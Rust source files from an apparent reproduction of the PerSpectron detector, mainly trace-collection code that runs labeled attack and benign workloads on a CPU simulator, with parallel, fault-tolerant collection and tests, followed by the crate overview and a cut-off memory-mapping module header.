//! noise seed, and a quarantine report ([`WorkloadFailure`]) in place of
//! an abort — a partial corpus always comes back.

use std::panic::{catch_unwind, AssertUnwindSafe};

use sim_cpu::{Core, CoreConfig, Machine, MarkEvent, SimError};
use sim_mem::HierarchyConfig;
use uarch_stats::{SampleSink, SampleTrace, Schema};
use workloads::{Class, CoreScenario, Family, Workload};

use crate::faults::FaultPlan;

/// Base seed for per-workload noise-RNG derivation.
const CORPUS_SEED: u64 = 0xcbf2_9ce4_8422_2325;

/// Deterministic per-workload seed: FNV-1a over the workload name, folded
/// into the corpus base seed. Depends only on the name — never on the
/// collection order or the thread that runs the workload.
pub fn workload_seed(name: &str) -> u64 {
    let mut h = CORPUS_SEED;
    for b in name.bytes() {
        h ^= b as u64;
        h = h.wrapping_mul(0x100_0000_01b3);
    }
    h
}

/// Deterministic per-core seed for multi-core runs: core 0 keeps the base
/// seed (so a one-core machine reproduces the single-core corpus and its
/// golden snapshots bit-for-bit), and every other core gets a
/// splitmix-style re-key of `(base, core_id)`. Depends only on the run
/// seed and the core id — never on thread count or collection order, so
/// two-core corpora are byte-identical at any parallelism.
pub fn core_seed(base: u64, core_id: usize) -> u64 {
    if core_id == 0 {
        return base;
    }
    let mut z = base ^ (core_id as u64).wrapping_mul(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

/// A sampled statistics time series for one workload run.
#[derive(Debug, Clone)]
pub struct LabeledTrace {
    /// Workload name.
    pub name: String,
    /// Ground-truth class.
    pub class: Class,
    /// Attack family (or benign).
    pub family: Family,
    /// Per-interval statistic deltas (columnar, schema-shared).
    pub trace: SampleTrace,
    /// Simulator marks committed during the run (leak/phase events).
    pub marks: Vec<MarkEvent>,
}

/// What to collect: which workloads, how many instructions, at what
/// sampling interval.
#[derive(Debug, Clone)]
pub struct CorpusSpec {
    /// Instructions to simulate per workload.
    pub insts_per_workload: u64,
    /// Sampling interval in committed instructions (the paper uses 10K,
    /// 50K and 100K).
    pub sample_interval: u64,
    /// Workloads to run.
    pub workloads: Vec<Workload>,
}

impl CorpusSpec {
    /// The paper's full corpus (attacks + calibration + benign) at 10K
    /// sampling.
    pub fn paper() -> Self {
        Self {
            insts_per_workload: 600_000,
            sample_interval: 10_000,
            workloads: workloads::full_suite(),
        }
    }

    /// A small, fast corpus for tests and examples.
    pub fn quick() -> Self {
        let all = workloads::full_suite();
        Self {
            insts_per_workload: 120_000,
            sample_interval: 10_000,
            workloads: all,
        }
    }

    /// Overrides the sampling interval (builder style).
    pub fn with_interval(mut self, interval: u64) -> Self {
        self.sample_interval = interval;
        self
    }

    /// Overrides the per-workload instruction budget (builder style).
    pub fn with_insts(mut self, insts: u64) -> Self {
        self.insts_per_workload = insts;
        self
    }

    /// Runs every workload and collects its trace, fanning out across all
    /// available cores. Identical output to [`CorpusSpec::collect_serial`].
    ///
    /// # Panics
    ///
    /// Panics on a simulator error (see [`CorpusSpec::try_collect`]).
    pub fn collect(&self) -> CollectedCorpus {
        self.try_collect().expect("corpus collection failed")
    }

    /// Serial reference collection (one workload after another).
    ///
    /// # Panics
    ///
    /// Panics on a simulator error (see [`CorpusSpec::try_collect_serial`]).
    pub fn collect_serial(&self) -> CollectedCorpus {
        self.try_collect_serial().expect("corpus collection failed")
    }

    /// Collects with an explicit worker-thread count.
    ///
    /// # Panics
    ///
    /// Panics on a simulator error (see
    /// [`CorpusSpec::try_collect_with_threads`]).
    pub fn collect_with_threads(&self, threads: usize) -> CollectedCorpus {
        self.try_collect_with_threads(threads)
            .expect("corpus collection failed")
    }

    /// Fallible variant of [`CorpusSpec::collect`]: fans out across all
    /// available cores and reports the first simulator error instead of
    /// panicking.
    pub fn try_collect(&self) -> Result<CollectedCorpus, SimError> {
        let threads = std::thread::available_parallelism().map_or(1, |n| n.get());
        self.try_collect_with_threads(threads)
    }

    /// Fallible serial reference collection (one workload after another).
    pub fn try_collect_serial(&self) -> Result<CollectedCorpus, SimError> {
        self.try_collect_with_threads(1)
    }

    /// Fallible collection with an explicit worker-thread count.
    ///
    /// The workload list is pre-partitioned into contiguous chunks, one per
    /// worker, and every worker writes its traces directly into its own
    /// slice of the result — no shared cursor to contend on and no
    /// post-join sort-merge. Seeds derive from the workload *name*, so the
    /// corpus is independent of the thread count and byte-equal to the
    /// serial path.
    ///
    /// Every per-workload run executes under `catch_unwind`: one
    /// panicking simulation surfaces as [`SimError::WorkloadPanicked`]
    /// for that workload (the first error wins, as with any other
    /// [`SimError`]) instead of poisoning the whole thread scope.
    pub fn try_collect_with_threads(&self, threads: usize) -> Result<CollectedCorpus, SimError> {
        let slots = fan_out(&self.workloads, threads, |w| {
            guard(&w.name, || {
                try_collect_trace(w, self.insts_per_workload, self.sample_interval)
            })
        });
        let traces = slots
            .into_iter()
            .zip(&self.workloads)
            .map(|(s, w)| s.unwrap_or_else(|| Err(lost_worker(&w.name))))
            .collect::<Result<Vec<_>, _>>()?;
        Ok(CollectedCorpus {
            traces,
            sample_interval: self.sample_interval,
        })
    }

    /// Collects a corpus through a [`FaultPlan`]: every workload's sample
    /// stream passes through a fault-injecting
    /// [`FaultySink`](crate::faults::FaultySink) before being recorded.
    ///
    /// Fault streams are keyed by `(plan seed, workload name)` only, so
    /// the faulted corpus is byte-identical across any `threads` count —
    /// exactly like the clean path. With a quiet spec this is
    /// byte-identical to [`CorpusSpec::try_collect_with_threads`].
    pub fn try_collect_faulted(
        &self,
        plan: &FaultPlan,
        threads: usize,
    ) -> Result<CollectedCorpus, SimError> {
        let slots = fan_out(&self.workloads, threads, |w| {
            guard(&w.name, || {
                let mut core = Core::try_new(CoreConfig::default(), w.program.clone())?;
                core.set_noise_seed(workload_seed(&w.name));
                let mut sink = plan.sink_for(&w.name, SampleTrace::new(core.stat_schema()));
                core.run_with_sink(self.insts_per_workload, self.sample_interval, &mut sink)?;
                Ok(LabeledTrace {
                    name: w.name.clone(),
                    class: w.class,
                    family: w.family,
                    trace: sink.into_inner(),
                    marks: core.marks().to_vec(),
                })
            })
        });
        let traces = slots
            .into_iter()
            .zip(&self.workloads)
            .map(|(s, w)| s.unwrap_or_else(|| Err(lost_worker(&w.name))))
            .collect::<Result<Vec<_>, _>>()?;
        Ok(CollectedCorpus {
            traces,
            sample_interval: self.sample_interval,
        })
    }

    /// Supervised, non-aborting collection: runs every workload under a
    /// watchdog and a panic guard, retries failures once with a fresh
    /// noise seed, and returns whatever could be collected plus a
    /// quarantine report — never an abort, never a hang.
    ///
    /// This is the deployment-shaped collector: a production detector
    /// cannot lose its whole training corpus because one workload
    /// deadlocks ([`SimError::CycleBudgetExceeded`] via
    /// [`ResiliencePolicy::cycle_budget`]) or trips a simulator panic
    /// ([`SimError::WorkloadPanicked`]).
    pub fn try_collect_resilient(&self, policy: &ResiliencePolicy) -> ResilientCorpus {
        self.collect_resilient_with(policy, |w, seed| {
            let cfg = CoreConfig {
                cycle_budget: policy.cycle_budget,
                ..CoreConfig::default()
            };
            let mut core = Core::try_new(cfg, w.program.clone())?;
            core.set_noise_seed(seed);
            let mut trace = SampleTrace::new(core.stat_schema());
            core.run_with_sink(self.insts_per_workload, self.sample_interval, &mut trace)?;
            Ok(LabeledTrace {
                name: w.name.clone(),
                class: w.class,
                family: w.family,
                trace,
                marks: core.marks().to_vec(),
            })
        })
    }

    /// [`CorpusSpec::try_collect_resilient`] with an injectable
    /// per-workload runner, so the supervision machinery (panic guard,
    /// retry, quarantine) can be tested against deliberately failing
    /// runs.
    pub(crate) fn collect_resilient_with<F>(
        &self,
        policy: &ResiliencePolicy,
        runner: F,
    ) -> ResilientCorpus
    where
        F: Fn(&Workload, u64) -> Result<LabeledTrace, SimError> + Sync,
    {
        let threads = policy
            .threads
            .unwrap_or_else(|| std::thread::available_parallelism().map_or(1, |n| n.get()));
        let attempts_allowed = policy.max_attempts.max(1);
        let slots = fan_out(&self.workloads, threads, |w| {
            let mut attempts = 0;
            loop {
                attempts += 1;
                // Retries re-seed the noise RNG: a fresh stream, still
                // deterministic (derived from the name and attempt only).
                let seed = retry_seed(&w.name, attempts - 1);
                match guard(&w.name, || runner(w, seed)) {
                    Ok(trace) => return Ok(trace),
                    Err(error) if attempts >= attempts_allowed => {
                        return Err(WorkloadFailure {
                            name: w.name.clone(),
                            family: w.family,
                            attempts,
                            error,
                        })
                    }
                    Err(_) => {}
                }
            }
        });
        let mut traces = Vec::with_capacity(self.workloads.len());
        let mut failures = Vec::new();
        for (slot, w) in slots.into_iter().zip(&self.workloads) {
            match slot {
                Some(Ok(trace)) => traces.push(trace),
                Some(Err(failure)) => failures.push(failure),
                None => failures.push(WorkloadFailure {
                    name: w.name.clone(),
                    family: w.family,
                    attempts: 0,
                    error: lost_worker(&w.name),
                }),
            }
        }
        ResilientCorpus {
            corpus: CollectedCorpus {
                traces,
                sample_interval: self.sample_interval,
            },
            failures,
        }
    }
}

/// How [`CorpusSpec::try_collect_resilient`] supervises its workers.
#[derive(Debug, Clone)]
pub struct ResiliencePolicy {
    /// Worker threads (`None`: all available cores).
    pub threads: Option<usize>,
    /// Per-workload simulated-cycle budget
    /// ([`CoreConfig::cycle_budget`]); the watchdog against runaway or
    /// deadlocked programs. `None` disables.
    pub cycle_budget: Option<u64>,
    /// Total attempts per workload (first run + retries). The default of
    /// 2 retries once with a fresh noise seed.
    pub max_attempts: u32,
}

impl Default for ResiliencePolicy {
    fn default() -> Self {
        Self {
            threads: None,
            cycle_budget: None,
            max_attempts: 2,
        }
    }
}

/// One quarantined workload: what failed, how often it was tried, why.
#[derive(Debug, Clone)]
pub struct WorkloadFailure {
    /// The workload's name.
    pub name: String,
    /// Its attack family (or benign).
    pub family: Family,
    /// Attempts made before giving up.
    pub attempts: u32,
    /// The final attempt's error.
    pub error: SimError,
}

impl std::fmt::Display for WorkloadFailure {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "{} (after {} attempt{}): {}",
            self.name,
            self.attempts,
            if self.attempts == 1 { "" } else { "s" },
            self.error
        )
    }
}

/// The outcome of a supervised collection: every trace that could be
/// collected, plus the quarantine report for those that could not.
#[derive(Debug, Clone)]
pub struct ResilientCorpus {
    /// The (possibly partial) corpus.
    pub corpus: CollectedCorpus,
    /// Workloads that failed every attempt, with their final errors.
    pub failures: Vec<WorkloadFailure>,
}

impl ResilientCorpus {
    /// Whether every requested workload produced a trace.
    pub fn is_complete(&self) -> bool {
        self.failures.is_empty()
    }

    /// A one-line quarantine summary for logs and monitors.
    pub fn quarantine_summary(&self) -> String {
        if self.failures.is_empty() {
            format!(
                "all {} workloads collected, quarantine empty",
                self.corpus.traces.len()
            )
        } else {
            format!(
                "{} collected, {} quarantined: {}",
                self.corpus.traces.len(),
                self.failures.len(),
                self.failures
                    .iter()
                    .map(WorkloadFailure::to_string)
                    .collect::<Vec<_>>()
                    .join("; ")
            )
        }
    }
}

/// Deterministic per-attempt noise seed: the name-derived base seed for
/// the first attempt, a splitmix-style re-key for each retry.
fn retry_seed(name: &str, retry: u32) -> u64 {
    let base = workload_seed(name);
    if retry == 0 {
        return base;
    }
    let mut z = base ^ (retry as u64).wrapping_mul(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

/// Runs `f` under `catch_unwind`, converting a panic into
/// [`SimError::WorkloadPanicked`] with the stringified payload.
fn guard<T>(workload: &str, f: impl FnOnce() -> Result<T, SimError>) -> Result<T, SimError> {
    match catch_unwind(AssertUnwindSafe(f)) {
        Ok(result) => result,
        Err(payload) => {
            let payload = payload
                .downcast_ref::<&str>()
                .map(|s| s.to_string())
                .or_else(|| payload.downcast_ref::<String>().cloned())
                .unwrap_or_else(|| "non-string panic payload".to_string());
            Err(SimError::WorkloadPanicked {
                workload: workload.to_string(),
                payload,
            })
        }
    }
}

/// The typed error for a slot its worker never filled — only reachable if
/// a worker thread dies outside the per-workload panic guard.
fn lost_worker(workload: &str) -> SimError {
    SimError::WorkloadPanicked {
        workload: workload.to_string(),
        payload: "worker thread died before filling its slot".to_string(),
    }
}

/// Chunked fan-out over scoped worker threads: the workload list is
/// pre-partitioned into contiguous chunks, one per worker, and every
/// worker writes results directly into its own slice — no shared cursor,
/// no post-join merge. With one thread (or one workload) the fan-out runs
/// inline on the caller's thread.
fn fan_out<I, T, F>(items: &[I], threads: usize, run: F) -> Vec<Option<T>>
where
    I: Sync,
    T: Send,
    F: Fn(&I) -> T + Sync,
{
    let n = items.len();
    let threads = threads.clamp(1, n.max(1));
    let mut slots: Vec<Option<T>> = Vec::new();
    slots.resize_with(n, || None);
    if threads <= 1 {
        for (w, slot) in items.iter().zip(slots.iter_mut()) {
            *slot = Some(run(w));
        }
        return slots;
    }
    let chunk = n.div_ceil(threads);
    std::thread::scope(|s| {
        for (ws, out) in items.chunks(chunk).zip(slots.chunks_mut(chunk)) {
            s.spawn(|| {
                for (w, slot) in ws.iter().zip(out.iter_mut()) {
                    *slot = Some(run(w));
                }
            });
        }
    });
    slots
}

/// What to collect from the multi-core machine: which cross-core
/// scenarios, how many machine-wide instructions, at what interval.
///
/// The scenario analog of [`CorpusSpec`]: every scenario runs on its own
/// [`Machine`] (one core per program, shared L2/buses/DRAM), sampling at
/// *machine-wide* committed-instruction boundaries so attacker and victim
/// progress both advance the window. Per-core noise seeds derive from
/// `(scenario name, core id)` via [`core_seed`], so scenario corpora are
/// byte-identical at any thread count — exactly like the single-core path.
#[derive(Debug, Clone)]
pub struct ScenarioSpec {
    /// Machine-wide instructions to simulate per scenario.
    pub insts_per_scenario: u64,
    /// Sampling interval in machine-wide committed instructions.
    pub sample_interval: u64,
    /// Scenarios to run.
    pub scenarios: Vec<CoreScenario>,
}

impl ScenarioSpec {
    /// The full cross-core suite at a quick size (good for tests and CI).
    pub fn cross_core_quick() -> Self {
        Self {
            insts_per_scenario: 120_000,
            sample_interval: 10_000,
            scenarios: workloads::cross_core_suite(),
        }
    }

    /// The full cross-core suite at detection-experiment size.
    pub fn cross_core() -> Self {
        Self {
            insts_per_scenario: 400_000,
            sample_interval: 10_000,
            scenarios: workloads::cross_core_suite(),
        }
    }

    /// Overrides the per-scenario instruction budget (builder style).
    pub fn with_insts(mut self, insts: u64) -> Self {
        self.insts_per_scenario = insts;
        self
    }

    /// Runs every scenario and collects its machine trace, fanning out
    /// across all available host cores.
    ///
    /// # Panics
    ///
    /// Panics on a simulator error (see [`ScenarioSpec::try_collect`]).
    pub fn collect(&self) -> CollectedCorpus {
        self.try_collect().expect("scenario collection failed")
    }

    /// Fallible variant of [`ScenarioSpec::collect`].
    pub fn try_collect(&self) -> Result<CollectedCorpus, SimError> {
        let threads = std::thread::available_parallelism().map_or(1, |n| n.get());
        self.try_collect_with_threads(threads)
    }

    /// Fallible collection with an explicit worker-thread count. One
    /// worker per scenario chunk; each scenario's machine runs serially on
    /// its worker (the machine itself is single-threaded by design — the
    /// cores tick in lockstep).
    pub fn try_collect_with_threads(&self, threads: usize) -> Result<CollectedCorpus, SimError> {
        let slots = fan_out(&self.scenarios, threads, |s| {
            guard(&s.name, || {
                try_collect_scenario(s, self.insts_per_scenario, self.sample_interval)
            })
        });
        let traces = slots
            .into_iter()
            .zip(&self.scenarios)
            .map(|(slot, s)| slot.unwrap_or_else(|| Err(lost_worker(&s.name))))
            .collect::<Result<Vec<_>, _>>()?;
        Ok(CollectedCorpus {
            traces,
            sample_interval: self.sample_interval,
        })
    }
}

/// Runs one cross-core scenario on a fresh [`Machine`] and samples the
/// machine-wide statistics (per-core `coreN.*` banks plus the shared
/// uncore groups). The trace's marks are the *foreground* core's (core 0
/// — the attacker in malicious scenarios).
pub fn try_collect_scenario(
    s: &CoreScenario,
    insts: u64,
    interval: u64,
) -> Result<LabeledTrace, SimError> {
    let mut machine = Machine::try_new(
        &CoreConfig::default(),
        &HierarchyConfig::default(),
        s.programs.clone(),
    )?;
    let base = workload_seed(&s.name);
    for i in 0..machine.n_cores() {
        machine.core_mut(i).set_noise_seed(core_seed(base, i));
    }
    let mut trace = SampleTrace::new(machine.stat_schema());
    machine.run_with_sink(insts, interval, &mut trace)?;
    Ok(LabeledTrace {
        name: s.name.clone(),
        class: s.class,
        family: s.family,
        trace,
        marks: machine.core(0).marks().to_vec(),
    })
}

/// Runs one workload and samples its statistics, streaming each interval
/// into a columnar trace.
///
/// # Panics
///
/// Panics on a simulator error (see [`try_collect_trace`]).
pub fn collect_trace(w: &Workload, insts: u64, interval: u64) -> LabeledTrace {
    try_collect_trace(w, insts, interval).expect("trace collection failed")
}

/// Fallible variant of [`collect_trace`].
pub fn try_collect_trace(
    w: &Workload,
    insts: u64,
    interval: u64,
) -> Result<LabeledTrace, SimError> {
    let mut core = Core::try_new(CoreConfig::default(), w.program.clone())?;
    core.set_noise_seed(workload_seed(&w.name));
    let mut trace = SampleTrace::new(core.stat_schema());
    core.run_with_sink(insts, interval, &mut trace)?;
    Ok(LabeledTrace {
        name: w.name.clone(),
        class: w.class,
        family: w.family,
        trace,
        marks: core.marks().to_vec(),
    })
}

/// Runs one workload, streaming each sampled interval straight into an
/// arbitrary sink (an online detector, a featurizer, a channel) instead of
/// materializing a trace. Returns the committed marks.
///
/// # Panics
///
/// Panics on a simulator error (see [`try_stream_trace`]).
pub fn stream_trace(
    w: &Workload,
    insts: u64,
    interval: u64,
    sink: &mut dyn SampleSink,
) -> Vec<MarkEvent> {
    try_stream_trace(w, insts, interval, sink).expect("trace streaming failed")
}

/// Fallible variant of [`stream_trace`].
pub fn try_stream_trace(
    w: &Workload,
    insts: u64,
    interval: u64,
    sink: &mut dyn SampleSink,
) -> Result<Vec<MarkEvent>, SimError> {
    let mut core = Core::try_new(CoreConfig::default(), w.program.clone())?;
    core.set_noise_seed(workload_seed(&w.name));
    core.run_with_sink(insts, interval, sink)?;
    Ok(core.marks().to_vec())
}

/// A collected corpus: one trace per workload, sharing a schema.
#[derive(Debug, Clone)]
pub struct CollectedCorpus {
    /// The traces.
    pub traces: Vec<LabeledTrace>,
    /// The sampling interval the corpus was collected at.
    pub sample_interval: u64,
}

impl CollectedCorpus {
    /// The statistic schema (identical across traces).
    ///
    /// # Panics
    ///
    /// Panics if the corpus is empty.
    pub fn schema(&self) -> &Schema {
        self.traces
            .first()
            .expect("non-empty corpus")
            .trace
            .schema()
    }

    /// Total number of samples across all traces.
    pub fn total_samples(&self) -> usize {
        self.traces.iter().map(|t| t.trace.len()).sum()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::faults::FaultSpec;

    fn tiny_spec() -> CorpusSpec {
        // Two workloads keep this test fast.
        let mut all = workloads::full_suite();
        all.retain(|w| w.name == "spectre-v1-classic" || w.name == "bzip2");
        CorpusSpec {
            insts_per_workload: 60_000,
            sample_interval: 10_000,
            workloads: all,
        }
    }

    #[test]
    fn collects_expected_sample_counts() {
        let corpus = tiny_spec().collect();
        assert_eq!(corpus.traces.len(), 2);
        for t in &corpus.traces {
            assert_eq!(t.trace.len(), 6, "{}: 60k insts at 10k = 6 samples", t.name);
        }
    }

    #[test]
    fn schema_covers_all_1159_stats() {
        let corpus = tiny_spec().collect();
        assert_eq!(corpus.schema().len(), 1159);
    }

    #[test]
    fn parallel_collection_is_byte_equal_to_serial() {
        let spec = tiny_spec();
        let serial = spec.collect_serial();
        let parallel = spec.collect_with_threads(2);
        assert_eq!(serial.traces.len(), parallel.traces.len());
        for (a, b) in serial.traces.iter().zip(&parallel.traces) {
            assert_eq!(a.name, b.name, "merge must preserve spec order");
            assert_eq!(a.trace.flat_values(), b.trace.flat_values());
            assert_eq!(a.trace.instruction_counts(), b.trace.instruction_counts());
            assert_eq!(a.marks, b.marks);
        }
    }

    #[test]
    fn workload_seeds_are_stable_and_name_derived() {
        assert_eq!(workload_seed("bzip2"), workload_seed("bzip2"));
        assert_ne!(workload_seed("bzip2"), workload_seed("hmmer"));
    }

    #[test]
    fn attack_trace_contains_leak_marks_and_labels() {
        let corpus = tiny_spec().collect();
        let spectre = corpus
            .traces
            .iter()
            .find(|t| t.name.starts_with("spectre"))
            .expect("spectre trace present");
        assert_eq!(spectre.class, Class::Malicious);
        assert!(!spectre.marks.is_empty(), "attack should mark leak events");
        let benign = corpus
            .traces
            .iter()
            .find(|t| t.name == "bzip2")
            .expect("bzip2");
        assert_eq!(benign.class, Class::Benign);
        assert!(benign.marks.is_empty());
    }

    #[test]
    fn samples_differ_between_attack_and_benign() {
        // Raw squash counts do NOT discriminate (branchy benign code like
        // bzip2 squashes constantly — that is the paper's point about
        // needing a rich feature combination). Flush-driven non-speculative
        // stalls, however, are an attack-side signal.
        let corpus = tiny_spec().collect();
        let col = "commit.NonSpecStalls";
        let spectre: f64 = corpus.traces[0]
            .trace
            .column(col)
            .expect("column exists")
            .iter()
            .sum();
        let benign: f64 = corpus.traces[1]
            .trace
            .column(col)
            .expect("column exists")
            .iter()
            .sum();
        assert!(
            spectre > benign,
            "spectre non-spec stalls ({spectre}) should dwarf bzip2 ({benign})"
        );
    }

    #[test]
    fn resilient_collection_quarantines_a_panicking_workload() {
        let spec = tiny_spec();
        let policy = ResiliencePolicy {
            threads: Some(2),
            ..ResiliencePolicy::default()
        };
        let result = spec.collect_resilient_with(&policy, |w, _seed| {
            if w.name == "bzip2" {
                panic!("simulated sensor wedge in {}", w.name);
            }
            try_collect_trace(w, spec.insts_per_workload, spec.sample_interval)
        });
        assert!(!result.is_complete());
        assert_eq!(result.corpus.traces.len(), 1);
        assert_eq!(result.corpus.traces[0].name, "spectre-v1-classic");
        assert_eq!(result.failures.len(), 1);
        let failure = &result.failures[0];
        assert_eq!(failure.name, "bzip2");
        assert_eq!(failure.attempts, 2, "default policy retries once");
        assert!(
            matches!(
                &failure.error,
                SimError::WorkloadPanicked { workload, payload }
                    if workload == "bzip2" && payload.contains("sensor wedge")
            ),
            "got: {}",
            failure.error
        );
        assert!(result.quarantine_summary().contains("1 quarantined"));
    }

    #[test]
    fn resilient_retry_recovers_a_transient_failure() {
        use std::sync::atomic::{AtomicU32, Ordering};
        let spec = tiny_spec();
        let policy = ResiliencePolicy {
            threads: Some(1),
            ..ResiliencePolicy::default()
        };
        let bzip2_calls = AtomicU32::new(0);
        let result = spec.collect_resilient_with(&policy, |w, seed| {
            if w.name == "bzip2" && bzip2_calls.fetch_add(1, Ordering::SeqCst) == 0 {
                // First attempt fails; the retry must arrive with a
                // different (but still name-derived) seed.
                assert_eq!(seed, workload_seed("bzip2"));
                panic!("transient fault");
            }
            if w.name == "bzip2" {
                assert_ne!(seed, workload_seed("bzip2"), "retry must re-seed");
            }
            try_collect_trace(w, spec.insts_per_workload, spec.sample_interval)
        });
        assert!(result.is_complete(), "{}", result.quarantine_summary());
        assert_eq!(result.corpus.traces.len(), 2);
        assert!(result.quarantine_summary().contains("quarantine empty"));
    }

    #[test]
    fn resilient_collection_on_healthy_workloads_matches_plain_collection() {
        let spec = tiny_spec();
        let plain = spec.collect_serial();
        let resilient = spec.try_collect_resilient(&ResiliencePolicy {
            threads: Some(2),
            cycle_budget: Some(100_000_000),
            ..ResiliencePolicy::default()
        });
        assert!(resilient.is_complete());
        for (a, b) in plain.traces.iter().zip(&resilient.corpus.traces) {
            assert_eq!(a.name, b.name);
            assert_eq!(a.trace.flat_values(), b.trace.flat_values());
            assert_eq!(a.marks, b.marks);
        }
    }

    #[test]
    fn quiet_fault_plan_collection_is_byte_equal_to_clean() {
        let spec = tiny_spec();
        let clean = spec.collect_serial();
        let plan = FaultPlan::new(FaultSpec::none(), clean.schema());
        let faulted = spec
            .try_collect_faulted(&plan, 2)
            .expect("quiet plan collects");
        for (a, b) in clean.traces.iter().zip(&faulted.traces) {
            assert_eq!(a.name, b.name);
            assert_eq!(a.trace.flat_values(), b.trace.flat_values());
            assert_eq!(a.trace.instruction_counts(), b.trace.instruction_counts());
        }
    }

    #[test]
    fn core_seeds_are_stable_and_core0_keeps_the_base() {
        let base = workload_seed("xcore-prime-probe-l2");
        assert_eq!(
            core_seed(base, 0),
            base,
            "core 0 must reproduce the single-core stream"
        );
        assert_ne!(core_seed(base, 1), base);
        assert_ne!(core_seed(base, 1), core_seed(base, 2));
        assert_eq!(core_seed(base, 1), core_seed(base, 1));
    }

    fn tiny_scenario_spec() -> ScenarioSpec {
        let mut scenarios = workloads::cross_core_suite();
        scenarios.retain(|s| s.name == "xcore-prime-probe-l2" || s.name == "xbenign-stream-pair");
        ScenarioSpec {
            insts_per_scenario: 40_000,
            sample_interval: 10_000,
            scenarios,
        }
    }

    #[test]
    fn scenario_collection_is_thread_count_invariant() {
        let spec = tiny_scenario_spec();
        let serial = spec.try_collect_with_threads(1).expect("serial collects");
        let parallel = spec.try_collect_with_threads(2).expect("parallel collects");
        assert_eq!(serial.traces.len(), 2);
        for (a, b) in serial.traces.iter().zip(&parallel.traces) {
            assert_eq!(a.name, b.name);
            assert_eq!(a.trace.flat_values(), b.trace.flat_values(), "{}", a.name);
            assert_eq!(a.marks, b.marks);
        }
    }

    #[test]
    fn scenario_traces_carry_namespaced_and_shared_columns() {
        let corpus = tiny_scenario_spec()
            .try_collect_with_threads(2)
            .expect("collects");
        let schema = corpus.schema();
        assert!(schema.index_of("core0.commit.NonSpecStalls").is_some());
        assert!(schema.index_of("core1.dcache.demand_misses").is_some());
        assert!(schema.index_of("l2.overall_misses").is_some());
        assert!(schema.index_of("tol2bus.arbGrants::core1").is_some());
        let attack = &corpus.traces[0];
        assert_eq!(attack.class, Class::Malicious);
        assert!(
            !attack.marks.is_empty(),
            "cross-core attacker must commit phase marks"
        );
    }

    #[test]
    fn retry_seeds_differ_per_attempt_but_are_deterministic() {
        let a0 = retry_seed("bzip2", 0);
        let a1 = retry_seed("bzip2", 1);
        assert_eq!(a0, workload_seed("bzip2"));
        assert_ne!(a0, a1);
        assert_eq!(a1, retry_seed("bzip2", 1));
        assert_ne!(a1, retry_seed("hmmer", 1));
    }
}
