//! PerSpectron: detecting invariant footprints of microarchitectural
//! attacks with perceptron learning.
//!
//! Reproduction of the MICRO 2020 paper. The pipeline is:
//!
//! 1. [`trace`] — run labeled workloads on the out-of-order simulator,
//!    dumping all 1159 microarchitectural statistics every N committed
//!    instructions.
//! 2. [`encode`] — normalize each statistic by its per-sampling-point
//!    maximum (the paper's matrix *M*) and binarize at 0.5 into k-sparse
//!    0/1 feature vectors.
//! 3. [`features`] — group mutually-correlated features (Pearson |c| ≥
//!    0.98) across the 17 pipeline components and greedily select 106
//!    *replicated invariant features*, one bank per component.
//! 4. [`detector`] — train the hardware-style perceptron over the selected
//!    features; classify with a confidence output and a 0.25 threshold.
//! 5. [`hardware`] — the hardware cost model (sequential-adder latency,
//!    storage bits) justifying "low hardware complexity" in Table IV.
//! 6. [`stream`] — the online deployment shape: per-interval featurization
//!    and classification as a [`uarch_stats::SampleSink`], scoring every
//!    sampling window the moment the simulator closes it. An optional
//!    bit-packed fast path ([`InferencePath::Packed`]) batches windows
//!    into `u64` bitsets and scores them with a frozen
//!    [`mlkit::PackedPerceptron`], bit-identically to the scalar path.
//! 7. [`faults`] — deterministic sensor-fault injection (component
//!    dropout, row drops, value corruption, interval jitter) at the sample
//!    boundary, quantifying the paper's replicated-detector resilience
//!    claim; the streaming path degrades gracefully (sanitized inputs,
//!    per-interval [`stream::Degraded`] status) instead of misfiring.
//!
//! Collection itself is streaming and parallel: [`CorpusSpec::collect`]
//! fans workloads out across threads (deterministic per-workload seeds,
//! ordered merge) and each core pushes schema-resolved, value-only delta
//! rows into columnar traces.
//!
//! # Example
//!
//! ```no_run
//! use perspectron::{CorpusSpec, PerSpectron};
//!
//! // Collect a small corpus and train the detector end to end.
//! let corpus = CorpusSpec::quick().collect();
//! let detector = PerSpectron::train(&corpus, 42);
//! let report = detector.evaluate(&corpus);
//! assert!(report.confusion.accuracy() > 0.9);
//! ```

#![warn(missing_docs)]

pub mod corpus_io;
pub mod dataset;
pub mod detector;
pub mod encode;
pub mod eval;
pub mod faults;
pub mod features;
pub mod hardware;
pub mod map_features;
pub mod mmap;
pub mod multiclass;
pub mod rhmd;
pub mod stream;
pub mod trace;

pub use corpus_io::{write_corpus, CorpusIoError, CorpusReader};
pub use dataset::{Dataset, Sample};
pub use detector::{DetectionReport, InferencePath, PerSpectron};
pub use encode::{core_feature_indices, Encoding, MaxMatrix, RowEncoder};
pub use eval::{paper_folds, FoldSpec};
pub use faults::{FaultLog, FaultPlan, FaultSpec, FaultySink};
pub use features::{bank_of, component_of, FeatureSelection, SelectionConfig};
pub use hardware::HardwareCost;
pub use multiclass::MulticlassDetector;
pub use rhmd::RhmdDetector;
pub use stream::{
    Degraded, IntervalVerdict, SessionSnapshot, SessionState, StreamSession, StreamingDetector,
    StreamingFeaturizer,
};
pub use trace::{
    core_seed, workload_seed, CollectedCorpus, CorpusSpec, LabeledTrace, ResiliencePolicy,
    ResilientCorpus, ScenarioSpec, WorkloadFailure,
};
