//! A tiny safe wrapper around a read-only memory mapping.
//!
//! The corpus reader ([`crate::corpus_io::CorpusReader`]) wants the whole
//! file addressable without making it resident: the kernel pages column
//! data in on demand and evicts it under pressure, so a million-row
//! corpus costs a replay client no more RSS than the rows it is actually
//! touching. This module is the smallest safe surface over `mmap(2)` that
//! supports that — map a file read-only, expose it as `&[u8]`, unmap on
//! drop — with no dependency beyond the libc every Rust binary on a Unix
//! host already links.
//!
//! On non-Unix targets (or when the kernel refuses the mapping),
//! [`MappedFile::map`] returns an error and callers fall back to
